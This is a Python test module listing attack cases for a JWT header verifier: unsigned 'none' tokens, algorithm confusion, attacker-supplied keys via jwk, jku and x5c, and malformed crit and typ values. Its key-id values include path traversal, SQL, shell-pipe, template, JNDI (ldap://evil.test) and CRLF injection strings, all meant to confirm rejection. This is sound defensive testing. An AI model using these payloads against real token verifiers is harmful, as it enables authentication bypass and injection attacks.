"""The header: algorithms, key ids, keys that come along, extensions, types."""

import functools
import json
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding

from drf_apikit.jose import Reason
from tests.authentication.attacks.cases import Case, World, changed
from tests.jose.minting import base64url, private_key, public_jwk, sign

__all__ = ["HEADER_CASES", "MARK"]

_ALLOWED: Final = ("RFC 8725", "3.1")
_NO_NONE: Final = ("RFC 8725", "3.2")
_KID: Final = ("RFC 7515", "4.1.4")
_INPUTS: Final = ("RFC 8725", "3.10")
_CRIT: Final = ("RFC 7515", "4.1.11")
_TYPES: Final = ("RFC 8725", "3.11")
#: What an attacker would like to read in the log.
MARK: Final = "mark-of-the-attacker"
#: The attacker's own key.
_EVIL: Final = "other P-256"


def _unsigned(name: str, algorithm: Any, signature: bytes = b"") -> Case:
    def make(world: World) -> str:
        header = {**world.header(), "alg": algorithm}
        return world.forged(header, lambda _: signature)

    return Case(f"alg-{name}-unsigned", make, Reason.ALGORITHM, *_NO_NONE)


def _algorithm(name: str, algorithm: Any) -> Case:
    return changed(f"alg-{name}", Reason.ALGORITHM, _ALLOWED, header={"alg": algorithm})


def _for_kid(signed: str, kid: str) -> Case:
    """Name an algorithm and a key that it does not fit."""

    def make(world: World) -> str:
        return world.token({"kid": kid}, algorithm=signed)

    return Case(f"alg-{signed}-with-{kid}", make, Reason.KEY_UNFIT, *_ALLOWED)


def _relabelled(signed: str, named: str) -> Case:
    """Name another algorithm of the same key than the one that signed."""

    def make(world: World) -> str:
        header = world.header(named)
        return world.forged(header, lambda text: sign(signed, "RSA", text))

    return Case(f"alg-{signed}-as-{named}", make, Reason.SIGNATURE, *_ALLOWED)


def _kid(name: str, kid: Any, expected: Reason = Reason.KEY_UNKNOWN) -> Case:
    def make(world: World) -> str:
        header = json.dumps({**world.header(), "kid": kid}).encode()
        return world.token(header)

    return Case(f"kid-{name}", make, expected, *_KID)


def _along(
    name: str,
    member: Callable[[World], dict[str, Any]],
    expected: Reason = Reason.SIGNATURE,
) -> Case:
    """Sign with the attacker's key and bring it along."""

    def make(world: World) -> str:
        return world.token(member(world), kind=_EVIL)

    return Case(f"key-along-{name}", make, expected, *_INPUTS)


@functools.cache
def _certificate() -> str:
    """Issue a certificate for the attacker's key, by that key."""
    key = private_key(_EVIL)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer.test")])
    builder = (
        x509.CertificateBuilder(name, name, key.public_key(), 1)
        .not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2099, 1, 1, tzinfo=UTC))
    )
    made = builder.sign(key, hashes.SHA256()).public_bytes(Encoding.DER)
    return base64url(made).translate(str.maketrans("-_", "+/"))


def _extension(name: str, /, **members: Any) -> Case:
    def make(world: World) -> str:
        return world.token(json.dumps({**world.header(), **members}).encode())

    return Case(f"extension-{name}", make, Reason.HEADER, *_CRIT)


def _unencoded(world: World) -> str:
    """Sign the payload as it is, as RFC 7797 has it."""
    members = {"b64": False, "crit": ["b64"]}
    header = base64url(json.dumps({**world.header(), **members}).encode())
    payload = json.dumps(world.claims())
    signature = sign("ES256", "P-256", f"{header}.{payload}".encode())
    return f"{header}.{base64url(payload.encode())}.{base64url(signature)}"


def _compressed(world: World) -> str:
    payload = zlib.compress(json.dumps(world.claims()).encode(), wbits=-15)
    return world.token(json.dumps({**world.header(), "zip": "DEF"}).encode(), payload)


def _type(name: str, typ: Any) -> Case:
    return changed(f"typ-{name}", Reason.TYPE, _TYPES, header={"typ": typ})


HEADER_CASES: Final = (
    *[_unsigned(name, name) for name in ("none", "None", "NONE", "nOnE")],
    _unsigned("none-zeros", "none", bytes(64)),
    _unsigned("missing", None),
    _unsigned("empty", ""),
    _unsigned("list", ["none"]),
    _unsigned("ES256-and-none", ["ES256", "none"]),
    _algorithm("none-with-a-signature", "none"),
    _algorithm("missing", None),
    _algorithm("lower-case", "es256"),
    _algorithm("space", "ES256 "),
    _algorithm("nul", "ES256\0"),
    _algorithm("list", ["ES256"]),
    _algorithm("object", {"ES256": 1}),
    _algorithm("number", 256),
    _algorithm("bool", True),
    *[
        _algorithm(name, name)
        for name in ("ES256K", "RS1", "Ed448", "RSA-OAEP", "RSA1_5", "dir", "A128KW")
    ],
    _algorithm("PBES2", "PBES2-HS256+A128KW"),
    changed(
        "alg-not-of-the-issuer",
        Reason.ALGORITHM,
        _ALLOWED,
        ALGORITHMS=["RS256", "EdDSA"],
    ),
    _for_kid("RS256", "P-256"),
    _for_kid("RS256", "Ed25519"),
    _for_kid("PS384", "P-521"),
    _for_kid("ES256", "RSA"),
    _for_kid("ES256", "P-384"),
    _for_kid("ES384", "P-256"),
    _for_kid("ES512", "Ed25519"),
    _for_kid("EdDSA", "P-256"),
    _for_kid("EdDSA", "RSA"),
    _relabelled("RS256", "PS256"),
    _relabelled("PS256", "RS256"),
    _relabelled("RS256", "RS384"),
    _relabelled("PS512", "PS384"),
    _kid("path", "../../../../../../dev/null"),
    _kid("absolute-path", "/etc/passwd"),
    _kid("sql", f"' UNION SELECT '{MARK}' --"),
    _kid("shell", f"| echo {MARK}"),
    _kid("template", "{{7*7}}${7*7}"),
    _kid("jndi", "${jndi:ldap://evil.test/a}"),
    _kid("newline", f"P-256\r\nRefused a token: {MARK}"),
    _kid("nul", "P-256\0"),
    _kid("surrogate-pair", "\U0001f600"),
    _kid("case", "p-256"),
    _kid("space", "P-256 "),
    _kid("empty", ""),
    _kid("url", "https://evil.test/keys#P-256"),
    _kid("long", "x" * 257, Reason.HEADER),
    _kid("100-kB", "x" * 100_000, Reason.TOO_LARGE),
    _kid("number", 0, Reason.HEADER),
    _kid("null", None, Reason.HEADER),
    _kid("bool", True, Reason.HEADER),
    _kid("list", ["P-256"], Reason.HEADER),
    _kid("object", {"P-256": "P-256"}, Reason.HEADER),
    _along("jwk", lambda _: {"jwk": public_jwk(_EVIL)}),
    _along("jwk-under-our-kid", lambda _: {"jwk": public_jwk(_EVIL, kid="P-256")}),
    _along("jwk-without-kid", lambda _: {"kid": None, "jwk": public_jwk(_EVIL)}),
    _along(
        "jwk-of-another-kid",
        lambda _: {"kid": _EVIL, "jwk": public_jwk(_EVIL)},
        Reason.KEY_UNKNOWN,
    ),
    _along("jku", lambda world: {"jku": f"{world.evil}/keys"}),
    _along(
        "jku-of-another-kid",
        lambda world: {"kid": _EVIL, "jku": f"{world.evil}/keys"},
        Reason.KEY_UNKNOWN,
    ),
    _along(
        "jku-that-looks-like-ours",
        lambda world: {"jku": f"https://issuer.test@{world.evil[7:]}/keys"},
    ),
    _along("x5u", lambda world: {"x5u": f"{world.evil}/certificate"}),
    _along("x5c", lambda _: {"x5c": [_certificate()]}),
    _along("x5t", lambda _: {"x5t": "AAAA", "x5t#S256": "AAAA"}),
    _along(
        "kid-is-a-url",
        lambda world: {"kid": f"{world.evil}/keys"},
        Reason.KEY_UNKNOWN,
    ),
    _extension("crit-unknown", crit=["urn:x"], **{"urn:x": 1}),
    _extension("crit-known", crit=["exp"]),
    _extension("crit-empty", crit=[]),
    _extension("crit-null", crit=None),
    _extension("crit-text", crit="exp"),
    _extension("crit-b64", crit=["b64"], b64=True),
    _extension("b64", b64=False),
    _extension("zip", zip="DEF"),
    Case("extension-b64-unencoded", _unencoded, Reason.HEADER, "RFC 7797", "6"),
    # Not even looked at: what is compressed is no JSON.
    Case("extension-zip-compressed", _compressed, Reason.MALFORMED, "RFC 8725", "3.6"),
    _type("missing", None),
    _type("jwt", "JWT"),
    _type("empty", ""),
    _type("application-jwt", "application/jwt"),
    _type("dpop", "dpop+jwt"),
    _type("logout", "logout+jwt"),
    _type("introspection", "token-introspection+jwt"),
    _type("secevent", "secevent+jwt"),
    _type("id-token", "id_token"),
    _type("parameters", "at+jwt;v=1"),
    _type("space", "at+jwt "),
    _type("prefix-twice", "application/application/at+jwt"),
    _type("other-tree", "text/at+jwt"),
    _type("homograph", "\u0430t+jwt"),
    _type("list", ["at+jwt"]),
    _type("object", {"at+jwt": 1}),
    _type("bool", True),
)
